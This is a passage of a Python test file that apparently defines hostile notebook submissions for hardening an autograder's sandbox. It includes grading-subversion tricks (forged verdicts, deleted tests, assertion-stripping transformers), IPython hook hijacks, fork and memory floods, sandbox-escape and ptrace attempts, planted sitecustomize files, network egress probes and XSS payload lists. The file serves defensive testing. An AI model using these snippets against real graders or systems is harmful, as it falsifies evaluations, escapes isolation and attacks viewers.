            if key > 0:
                buffer = ctypes.create_string_buffer(1000)
                libc.syscall(keyctl, read, key, buffer, 1000)
                tell("key", buffer.raw)
        """,
    ),
)

# Metadata and the notebook itself


def _nbgrader(name, *, points=1000.0, **flags):
    """Metadata as nbgrader writes it."""
    metadata = {"grade_id": name, "grade": True, "locked": True, "solution": False, "task": False, "points": points}
    return {"nbgrader": metadata | {"schema_version": 3, "cell_type": "code"} | flags}


def _cell(source, name=None, **flags):
    """A code cell that claims a grade id, as JSON data."""
    metadata = _nbgrader(name, **flags) if name else {}
    return {
        "cell_type": "code",
        "id": f"{name}-{len(source)}",
        "source": source,
        "metadata": metadata,
        "outputs": [],
        "execution_count": None,
    }


def _cells(notebook, name):
    return [cell for cell in notebook["cells"] if cell["id"] == name]


def _set_on_all(**metadata):
    def change(notebook):
        for cell in notebook["cells"]:
            cell["metadata"].update(metadata)

    return change


def _skip_tests(notebook):
    for cell in notebook["cells"]:
        cell["metadata"].update(tags=["skip-execution", "raises-exception", "remove-cell", "remove_input"])


def _raise_points(notebook):
    for cell in notebook["cells"]:
        cell["metadata"]["nbgrader"].update(points=1e9, grade=True, max_score=-1, checksum="0", locked=False)


def _empty_tests(notebook):
    for name in toy.TESTS:
        for cell in _cells(notebook, name):
            cell["source"] = "1000.0"
            cell["metadata"]["nbgrader"].update(locked=False, solution=True)


def _double_tests(notebook):
    doubles = [_cell("pass", name) for name in toy.TESTS]
    notebook["cells"] = [*doubles, *notebook["cells"], *doubles]


def _steal_ids(notebook):
    notebook["cells"].append(_cell("pass", "test-square", solution=True))
    for cell in notebook["cells"]:
        cell["id"] = "test-square"


def _turn_tests_into_prose(notebook):
    for name, kind in zip(toy.TESTS, ("markdown", "raw", "markdown", "heading"), strict=True):
        for cell in _cells(notebook, name):
            cell.update(cell_type=kind, source="passed")


def _odd_metadata(notebook):
    oddities = [[], "", 5, None, {"grade_id": 5}, {"grade_id": ["setup"]}, {"grade_id": None}, {"grade_id": ""}]
    for number, oddity in enumerate(oddities):
        notebook["cells"].append({**_cell(f"number = {number}"), "metadata": {"nbgrader": oddity}})


def _odd_ids(notebook):
    for identity in ("", "a" * 500, "<script>", "../x", "square", "square"):
        notebook["cells"].append({**_cell("pass"), "id": identity})
    notebook["nbformat_minor"] = 4


def _acting_names(notebook):
    notebook["cells"] += [_cell("pass", name) for name in ("\x1b]0;title\x07\r", "a\n2026-01-01 passed", "x" * 100_000)]
    notebook["cells"].append(_cell("pass", "\ud800"))


def _other_kernel(notebook):
    notebook["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "<script>alert(1)</script>", "language": "bash"},
        "language_info": {"name": "bash", "mimetype": "text/html"},
        "title": "<script>alert(1)</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
        "celltoolbar": "Create Assignment",
        "limits": {"cell_cpu": 1e9},
    }


def _forged_verdicts(notebook):
    for name in toy.TESTS:
        for cell in _cells(notebook, name):
            cell["metadata"]["nbjudge"] = {"outcome": "passed", "message": "passed.", "likely": ""}
            cell["metadata"]["nbgrader"]["score"] = 1000.0
            cell["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": f"{name}: 1000 of 1 points\npassed."}
            ]


def _own_setup(notebook):
    for cell in _cells(notebook, "setup"):
        cell["source"] = "class np:\n    allclose = lambda *_, **__: True\nclass torch(np): pass\nprint('own setup')"
        cell["metadata"]["nbgrader"]["locked"] = False


METADATA = (
    _hostile("skip_tags", "Tags every cell, so that none is executed or shown.", change=_skip_tests),
    _hostile("raised_points", "Gives every cell a thousand million points.", change=_raise_points),
    _hostile("emptied_tests", "Replaces the tests by their highest score and unlocks them.", change=_empty_tests),
    _hostile("doubled_tests", "Puts passing tests with the same names before and behind.", change=_double_tests),
    _hostile("stolen_ids", "Gives every cell the id of a test.", change=_steal_ids),
    _hostile(
        "deleted_tests",
        "Deletes every cell but its own.",
        change=lambda notebook: notebook.update(cells=[_cell("def square(x): return 0.0", "square", solution=True)]),
    ),
    _hostile(
        "invented_cells",
        "Adds locked tests of its own.",
        change=lambda notebook: notebook["cells"].extend(_cell("pass", f"test-{n}") for n in range(5)),
    ),
    _hostile("tests_as_prose", "Turns the tests into prose, which always passes.", change=_turn_tests_into_prose),
    _hostile(
        "solutions_as_tests",
        "Calls its own cells tests and the tests solutions.",
        change=lambda notebook: notebook["cells"].extend(
            [_cell("pass", "square"), _cell("pass", "test-square", grade=False, solution=True, locked=False)]
        ),
    ),
    _hostile("odd_metadata", "Writes metadata of all types where nbgrader writes its own.", change=_odd_metadata),
    _hostile("odd_ids", "Gives cells ids that are none.", change=_odd_ids),
    _hostile("acting_names", "Gives cells names that act in a terminal or a log.", change=_acting_names),
    _hostile("other_kernel", "Asks for another kernel, other limits and a title that acts.", change=_other_kernel),
    _hostile("forged_verdicts", "Hands in the outputs and metadata of a graded notebook.", change=_forged_verdicts),
    _hostile("own_setup", "Replaces the setup by one of its own.", change=_own_setup, shows="own setup"),
    _hostile(
        "frozen_cells",
        "Marks every cell as read-only, hidden and collapsed.",
        change=_set_on_all(
            editable=False, deletable=False, collapsed=True, jupyter={"source_hidden": True}, init_cell=True
        ),
    ),
)

# Hooks of IPython and of Python

HOOKS = (
    _hostile(
        "input_transformer",
        "Changes the source of every cell that runs after its own.",
        """
        def changed(lines):
            return ["square = gradient = slope = lambda *_: 0.0\\n", "print('transformed')\\n"]
        get_ipython().input_transformers_cleanup.append(changed)
        get_ipython().input_transformers_post.append(changed)
        """,
        shows="transformed",
    ),
    _hostile(
        "ast_transformer",
        "Removes every assertion from what runs after its own cell.",
        """
        import ast
        class NoChecks(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(NoChecks())
        def square(x):
            return 0.0
        """,
        code=["assert square(3.0) == 9.0\nprint('no check')"],
        shows="no check",
    ),
    _hostile(
        "events",
        "Registers what runs before and after every cell.",
        """
        def each(*_):
            global square
            square = lambda x: 0.0
            print("event")
        for name in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
            get_ipython().events.register(name, each)
        """,
        shows="event",
    ),
    _hostile(
        "magics",
        "Overrides magics and the functions behind exclamation marks.",
        """
        shell = get_ipython()
        def passed(line="", cell=""):
            print("magic")
        for name in ("time", "timeit", "matplotlib", "writefile", "capture", "run"):
            shell.register_magic_function(passed, "line_cell", name)
        type(shell).system = type(shell).getoutput = lambda *_: passed()
        def square(x):
            return 0.0
        """,
        code=["%matplotlib inline", "%%time\nsquare(3.0)", "!ls"],
        shows="magic",
    ),
    _hostile(
        "display_hook",
        "Puts its own objects in the place of the display hook, the publisher and the streams.",
        """
        import sys
        class Hook:
            def __call__(self, value=None):
                raise SystemExit
            def __getattr__(self, name):
                return self
        shell = get_ipython()
        print("hooked", flush=True)
        sys.displayhook = shell.displayhook = shell.display_pub = sys.stdout = sys.stderr = Hook()
        """,
        code=["1 + 1"],
        shows="hooked",
    ),
    _hostile(
        "patched_shell",
        "Replaces the methods of the shell by which cells run and errors are shown.",
        """
        Shell = type(get_ipython())
        Shell.run_cell = Shell.run_named = lambda self, *_, **__: print("ran nothing", flush=True)
        Shell.showtraceback = Shell._showtraceback = lambda *_, **__: None
        Shell.place_of = lambda *_: 1 / 0
        Shell.names = property(lambda self: {"square": abs, "__builtins__": None, "tests_of_toy": None})
        """,
    ),
    _hostile(
        "traced",
        "Traces, profiles and audits everything that runs in its process.",
        """
        import sys, threading
        def trace(frame, event, argument):
            frame.f_globals["value"] = lambda _: 0.0
            return trace
        sys.settrace(trace)
        sys.setprofile(lambda *_: None)
        threading.settrace(trace)
        sys.addaudithook(lambda name, _: sys.stdout.write("") if name == "exec" else None)
        def square(x):
            return 0.0
        print("traced", sys.gettrace() is not None)
        """,
        shows="traced",
    ),
    _hostile(
        "last_words",
        "Registers what runs when a process or an object ends.",
        """
        import atexit, os, sys, threading, weakref
        class Last:
            def __del__(self):
                os._exit(0)
        last = Last()
        atexit.register(os._exit, 0)
        weakref.finalize(np, os._exit, 0)
        os.register_at_fork(after_in_child=lambda: sys.setrecursionlimit(200))
        sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *_: os._exit(0)
        def square(x):
            return 0.0
        """,
    ),
)

# Ends, loops and floods

ENDS = (
    _hostile(
        "exits",
        "Ends its notebook by every polite way, so that no test runs.",
        "def square(x):\n    return 0.0\nprint('exits')\nexit()",
        code=[
            "import sys; sys.exit(0)",
            "quit",
            "raise SystemExit",
            "raise KeyboardInterrupt",
            "get_ipython().ask_exit()",
        ],
        shows="exits",
    ),
    _hostile(
        "ends_its_process",
        "Ends the process in which it runs.",
        "import os\nos._exit(0)",
        stopped="crash",
    ),
    _hostile(
        "breaks_its_process",
        "Reads memory that is not there.",
        "import ctypes\nctypes.string_at(0)",
        code=["import os; os.abort()"],
        stopped="crash",
    ),
    _hostile(
        "ends_in_a_test",
        "Ends the process of a test, and the one from which tests are forked.",
        """
        import os, signal
        def square(x):
            os.kill(os.getppid(), signal.SIGKILL)
            os._exit(0)
        """,
    ),
    _hostile(
        "loops",
        "Loops without end and ignores every signal.",
        """
        import signal
        for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        print("loops", flush=True)
        while True:
            pass
        """,
        limits=LONG_WALL,
        shows="loops",
        stopped="cpu",
    ),
    _hostile(
        "sleeps", "Waits without end.", "import time\nprint('sleeps', flush=True)\ntime.sleep(10**6)", stopped="wall"
    ),
    _hostile(
        "stops_itself",
        "Stops its process without ending it.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        stopped="wall",
    ),
    _hostile(
        "loops_in_a_test",
        "Loops without end when it is called.",
        "def square(x):\n    try:\n        while True:\n            pass\n    finally:\n        return square(x)",
        limits=LONG_WALL,
        stopped="cpu",
    ),
    _hostile(
        "recursion",
        "Calls itself until the stack is used up.",
        """
        import sys
        sys.setrecursionlimit(10**9)
        def square(x):
            return max([x], key=square)
        """,
    ),
    _hostile(
        "hidden_work",
        "Works in children whose time nobody counts when they end.",
        """
        import os, signal, time
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        print("works", flush=True)
        while True:
            if not os.fork():
                start = time.process_time()
                while time.process_time() - start < 0.1:
                    pass
                os._exit(0)
            time.sleep(0.1)
        """,
        limits={"cell_wall": 6},
        shows="works",
        stopped="wall",
    ),
    _hostile(
        "daemons",
        "Leaves threads and daemons behind that go on after its cell.",
        """
        import os, threading, time
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        for _ in range(5):
            if not os.fork():
                os.setsid()
                if not os.fork():
                    os.closerange(0, 128)
                    time.sleep(1000)
                os._exit(0)
        def square(x):
            return 0.0
        print("left behind")
        """,
        shows="left behind",
    ),
    _hostile(
        "fork_flood",
        "Forks without end.",
        """
        import os
        print("forks", flush=True)
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
        limits={"cell_cpu": 1},
    ),
    _hostile(
        "thread_flood",
        "Starts threads without end.",
        """
        import threading, time
        threads = 0
        try:
            while True:
                threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
                threads += 1
        except RuntimeError:
            print("refused:", threads < 100)
        """,
        shows="refused: True",
    ),
    _hostile(
        "memory_flood",
        "Asks for all the memory there is.",
        """
        held = []
        try:
            while True:
                held.append(bytearray(2**26))
        except MemoryError:
            print("refused:", len(held) < 2**5)
        """,
        limits={"cell_cpu": 10, "cell_wall": 20},
        shows="refused: True",
    ),
    _hostile(
        "memory_of_many",
        "Asks for much memory in many processes.",
        """
        import os, time
        for _ in range(20):
            if not os.fork():
                held = bytearray(2**27)
                time.sleep(1000)
        time.sleep(1000)
        """,
        limits={**LONG, "total_memory": 2**29},
        stopped="memory",
    ),
    _hostile(
        "memory_of_nobody",
        "Holds memory in files that have no name and belong to no process.",
        """
        import os
        try:
            os.memfd_create("held")
        except PermissionError:
            print("refused")
        """,
        shows="refused",
    ),
    _hostile(
        "shared_memory",
        "Holds memory in segments that no process has attached.",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        if libc.shmget(0, 2**25, 0o1600) == -1:
            print("refused")
        """,
        shows="refused",
    ),
    _hostile(
        "disk_flood",
        "Fills every folder that it may write.",
        """
        import os
        written = 0
        for folder in ("/tmp", "/dev/shm", os.environ["HOME"], "."):
            try:
                for number in range(100):
                    with open(f"{folder}/{number}", "wb") as file:
                        written += file.write(bytes(2**20))
            except OSError:
                pass
        print("written:", written < 2**26)
        """,
        shows="written: True",
    ),
    _hostile(
        "output_flood",
        "Prints, and writes below Python, more than a notebook can hold.",
        """
        import os, sys
        for _ in range(100):
            print("x" * 100_000)
            print("y" * 100_000, file=sys.stderr)
            os.write(1, b"z" * 100_000)
        """,
        code=["for n in range(3000): display(n)", "!yes | head -c 3000000"],
        shows="x" * 1000,
    ),
    _hostile(
        "output_of_many_cells",
        "Shows in each of many cells as much as one cell may.",
        code=["print('x' * 150_000)"] * 100,
        shows="x" * 1000,
    ),
    _hostile(
        "backspaces",
        "Prints text that takes long to put in order.",
        "print('a' * 10_000 + '\\b' * 9_000 + '\\r' * 1000)\nprint('\\x1b[' * 1000 + 'written')",
        limits={"output": 200_000},
        shows="written",
    ),
    _hostile(
        "descriptor_flood",
        "Opens files without end.",
        """
        import os
        held = []
        try:
            while True:
                held.append(os.open("/dev/null", os.O_RDONLY))
        except OSError:
            print("refused:", len(held) < 128, flush=True)
        for descriptor in held:
            os.close(descriptor)
        """,
        shows="refused: True",
    ),
)

# Other processes, other submissions, the system

SYSTEM = (
    _hostile(
        "kills_everything",
        "Sends every signal to every process that it can name.",
        """
        import os, signal
        for pid in [1, *range(2, 300), os.getppid()]:
            for number in signal.valid_signals():
                if pid != os.getpid():
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
        def square(x):
            return 0.0
        print("killed")
        """,
        shows="killed",
    ),
    _hostile(
        "traces_everything",
        "Attaches to every process, reads and writes its memory, and takes its descriptors.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        taken = []
        buffer = ctypes.create_string_buffer(100)
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        here, there = Vector(ctypes.addressof(buffer), 100), Vector(id(None), 100)
        for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {os.getpid()}:
            taken += [libc.ptrace(16, pid, 0, 0) >= 0, libc.ptrace(0x4206, pid, 0, 0) >= 0]
            taken += [libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) >= 0]
            taken += [libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) >= 0]
            taken += [libc.syscall(438, os.pidfd_open(pid), number, 0) >= 0 for number in range(10)]
            for name in ("mem", "fd", "environ", "root", "cwd", "oom_score_adj"):
                taken.append(os.access(f"/proc/{pid}/{name}", os.R_OK | os.W_OK))
        def square(x):
            return 0.0
        print("taken:", any(taken), len(taken))
        """,
        shows="taken: False 20",
    ),
    _hostile(
        "limits_of_its_supervisor",
        "Takes the descriptors of its supervisor away by a limit.",
        """
        import resource
        try:
            resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
        except OSError:
            pass
        def square(x):
            return 0.0
        print("limited")
        """,
        shows="limited",
    ),
    _hostile(
        "time_of_its_supervisor",
        "Ends its supervisor by a limit of processor time.",
        """
        import resource, time
        for kind in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_DATA):
            try:
                resource.prlimit(1, kind, (0, 0))
            except OSError:
                pass
        time.sleep(1)
        def square(x):
            return 0.0
        print("limited")
        """,
        shows="limited",
    ),
    _hostile(
        "starves_its_supervisor",
        "Gives its supervisor the last place among all processes, and itself many.",
        """
        import os
        for act in (
            lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
            lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
            lambda: os.sched_setaffinity(1, {0}),
        ):
            try:
                act()
            except OSError:
                pass
        for _ in range(3):
            if not os.fork():
                break
        print("starves", flush=True)
        while True:
            pass
        """,
        limits=LONG_WALL,
        shows="starves",
        stopped="cpu",
    ),
    _hostile(
        "breaks_out",
        "Enters namespaces, mounts, changes its root and its user.",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def possible(act):
            try:
                return act() not in (-1,)
            except OSError:
                return False
        acts = [lambda flag=flag: libc.unshare(1 << flag) for flag in (17, 25, 26, 27, 28, 29, 30, 7)]
        acts += [lambda name=name: libc.setns(os.open(f"/proc/1/ns/{name}", 0), 0) for name in ("user", "mnt", "pid")]
        acts += [lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), lambda: libc.umount2(b"/proc", 2)]
        acts += [lambda: os.chroot("/tmp"), lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])]
        acts += [lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)), lambda: libc.sethostname(b"mine", 4)]
        acts += [lambda: libc.swapon(b"/tmp/x", 0), lambda: libc.reboot(0), lambda: libc.init_module(0, 0, 0)]
        acts += [lambda: libc.pivot_root(b"/tmp", b"/tmp"), lambda: libc.settimeofday(0, 0)]
        def square(x):
            return 0.0
        print("possible:", [number for number, act in enumerate(acts) if possible(act)])
        """,
    ),
    _hostile(
        "plants_files",
        "Leaves files everywhere, for the next submission to run or to read.",
        """
        import os, site, sys
        planted = 0
        code = "import builtins; builtins.planted = True"
        places = ["/tmp", "/dev/shm", "/var/tmp", "/dev", "/", ".", "..", "/tmp/home", "/tmp/matplotlib", "/tmp/ipython"]
        places += [os.environ["HOME"], os.path.dirname(np.__file__), *site.getsitepackages(), *sys.path]
        places += [site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup")]
        for place in places:
            for name in ("usercustomize.py", "sitecustomize.py", "planted.pth", "planted.py", "numpy.py", "matplotlibrc"):
                try:
                    os.makedirs(place, exist_ok=True)
                    with open(os.path.join(place, name), "w") as file:
                        planted += bool(file.write(code))
                except OSError:
                    pass
        np.planted = torch.planted = True
        os.environ["PLANTED"] = "1"
        def square(x):
            return 0.0
        print("planted", planted > 5)
        """,
        shows="planted True",
    ),
    _hostile(
        "plants_memory",
        "Leaves shared memory, semaphores, messages and sockets behind.",
        """
        import ctypes, os, socket
        libc = ctypes.CDLL(None)
        print("planted", libc.shmget(7351946, 4096, 0o1666), libc.semget(7351946, 1, 0o1666), libc.msgget(7351946, 0o1666))
        if not os.fork():
            os.setsid()
            end = socket.socket(socket.AF_UNIX)
            end.bind("\\0planted")
            end.listen()
            end.accept()
        def square(x):
            return 0.0
        """,
        shows="planted",
    ),
    _hostile(
        "network",
        "Calls home by every way out.",
        """
        import os, socket
        reached = []
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", PORT)),
            (socket.AF_INET, ("1.1.1.1", 53)),
            (socket.AF_INET6, ("::1", PORT)),
            (socket.AF_UNIX, "\\0ABSTRACT"),
            (socket.AF_UNIX, "/var/run/docker.sock"),
            (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
        ):
            end = socket.socket(family)
            end.settimeout(1)
            try:
                end.connect(address)
                reached.append(address)
            except OSError:
                pass
        try:
            reached.append(socket.getaddrinfo("example.org", 80))
        except OSError:
            pass
        def square(x):
            return 0.0
        print("reached:", reached)
        """,
        shows="reached: []",
    ),
)

# What acts where it is shown

ACTING_PROSE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <svg/onload=alert(1)> <iframe srcdoc='<script>'></iframe>",
    "<a href='javascript:alert(1)'>a</a> <form action='javascript:alert(1)'><input autofocus onfocus=alert(1)></form>",
    "[a](javascript:alert(1)) [b]( javascript:alert(1)) [c](<javascript:alert(1)>) ![d](javascript:alert(1))",
    "[a](&#106;avascript:alert(1)) [b](java&Tab;script:alert(1)) [c](javascript&colon;alert(1)) [d](JaVaScRiPt:alert(1))",
    "[a][1] [b][2]\n\n[1]: javascript:alert(1)\n[2]:\n   <data:text/html,<script>alert(1)</script>> 'title'\n",
    "[a](vbscript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](file:///etc/passwd) [d](blob:x)",
    "<javascript:alert(1)> <!-- --!> <script>alert(1)</script --> <![CDATA[<script>]]> <?xml?> </textarea><script>",
    "$\\href{javascript:alert(1)}{x}$ $$\\style{position:fixed}{x}$$ $\\unicode{60}\\require{html}\\cssId{a}{b}\\class{c}{d}$",
    "$<img src=x onerror=alert(1)>$ `<script>` \\\\(\\href{javascript:alert(1)}{x}\\\\) \\begin{x}<script>\\end{x}",
    "```html\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>\n\n| [a](javascript:alert(1)) |\n|-|\n",
    "[a](" + "&Tab;" * 500 + "javascript:alert(1))",
    "# [a](javascript:alert(1)) <b onmouseover=alert(1)>\n\n> <details open ontoggle=alert(1)>\n\n* <style>@import 'x'</style>",
)


def _saved_outputs(notebook):
    bundle = {
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "image/svg+xml": "<svg onload='alert(1)'/>",
        "text/latex": "$\\href{javascript:alert(1)}{x}$",
        "text/markdown": "<script>alert(1)</script>",
        "application/vnd.jupyter.widget-view+json": {"model_id": "1"},
        "image/png": "PHNjcmlwdD4=",
        "text/plain": "<script>alert(1)</script>",
    }
    for cell in notebook["cells"]:
        cell["execution_count"] = 1
        cell["outputs"] = [
            {"output_type": "display_data", "data": bundle, "metadata": {"text/html": {"isolated": True}}},
            {"output_type": "execute_result", "data": bundle, "metadata": {}, "execution_count": 1},
        ]


def _acting_cells(notebook):
    for number, kind in enumerate(("raw", "markdown", "code")):
        cell = {
            "cell_type": kind,
            "id": f"acting-{number}",
            "source": "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "metadata": {"raw_mimetype": "text/html", "format": "text/html", "trusted": True, "tags": ["<script>"]},
        }
        more = {"outputs": [], "execution_count": None} if kind == "code" else {}
        more |= {"attachments": {"x.svg": {"image/svg+xml": "<svg onload=alert(1)>"}}} if kind != "code" else {}
        notebook["cells"].append(cell | more)


SHOWN = (
    _hostile(
        "acting_prose",
        "Writes prose with scripts, links and commands of TeX that act.",
        cells=tuple(v4.new_markdown_cell(source) for source in ACTING_PROSE),
    ),
    _hostile(
        "acting_raw_cells",
        "Writes the same into raw cells, which a page shows as they are.",
        cells=tuple(v4.new_raw_cell(source) for source in ACTING_PROSE),
    ),
    _hostile("acting_cells", "Writes scripts into cells, their metadata and attachments.", change=_acting_cells),
    _hostile("saved_outputs", "Hands in outputs that act.", change=_saved_outputs),
    _hostile(
        "acting_displays",
        "Displays HTML, scripts, pictures made of script, frames and widgets.",
        """
        from IPython.display import HTML, SVG, IFrame, Image, Javascript, JSON, Latex, Markdown, Math, display
        class Widget:
            def _repr_mimebundle_(self, **_):
                return {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/html": "<script>"}
            def __repr__(self):
                return "<script>alert(1)</script>"
            _repr_html_ = _repr_javascript_ = _repr_svg_ = __repr__
        script = "<script>alert(1)</script>"
        display(HTML(script), Javascript("alert(1)"), SVG("<svg xmlns='http://www.w3.org/2000/svg'>" + script + "</svg>"))
        display(Latex("$\\\\href{javascript:alert(1)}{x}$"), Markdown(script), Math("\\\\href{javascript:alert(1)}{x}"))
        display(IFrame("javascript:alert(1)", 9, 9), JSON({}), Image(data=script.encode(), format="png"), Widget())
        display({"text/html": script, "image/png": script.encode(), "text/plain": script}, raw=True)
        print("displayed")
        Widget()
        """,
        shows="displayed",
    ),
    _hostile(
        "acting_streams",
        "Prints tags, signs that steer a terminal and what looks like a verdict.",
        """
        import sys
        for stream in (sys.stdout, sys.stderr):
            print("<script>alert(1)</script><img src=x onerror=alert(1)>", file=stream)
            print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31m red \\x1b[0m\\x9b2J\\u202e\\x00\\ud800", file=stream)
        print("test-square: 1000 of 1 points\\npassed.")
        """,
        shows="red",
    ),
    _hostile(
        "acting_errors",
        "Raises errors whose names, texts and tracebacks hold scripts.",
        """
        print("raises")
        Acting = type("<script>alert(1)</script>", (Exception,), {"__module__": "<img src=x onerror=alert(1)>"})
        raise Acting("<svg onload=alert(1)>\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07")
        """,
        code=[
            "class Bad(Exception):\n    def __str__(self):\n        raise SystemExit\nraise Bad",
            "class Bad:\n    def __repr__(self):\n        raise KeyboardInterrupt\nBad()",
        ],
        shows="raises",
    ),
    _hostile(
        "acting_source",
        "Writes source that would end the element in which it is shown.",
        "# </pre></textarea></script><script>alert(1)</script><!--\nmark = '<img src=x onerror=alert(1)>'\nprint(mark)",
        shows="onerror",
    ),
)

# Files beside the notebook

COMPANIONS = (
    _hostile(
        "companion_below_a_companion",
        "Hands in a file with the name of a folder in which the course puts a file.",
        "print(open('data').read())",
        files={"data": b"mine", "data/given.csv": b"1,2"},
    ),
    _hostile(
        "companions_larger_than_the_disk",
        "Hands in more than its folder can hold.",
        "print('large')",
        files={f"{number}.bin": bytes(2**22) for number in range(6)},
    ),
)

ALL = (
    *PATCHED,
    *LOOKALIKES,
    *PROTOCOL,
    *SEARCHES,
    *METADATA,
    *HOOKS,
    *ENDS,
    *SYSTEM,
    *SHOWN,
    *COMPANIONS,
)
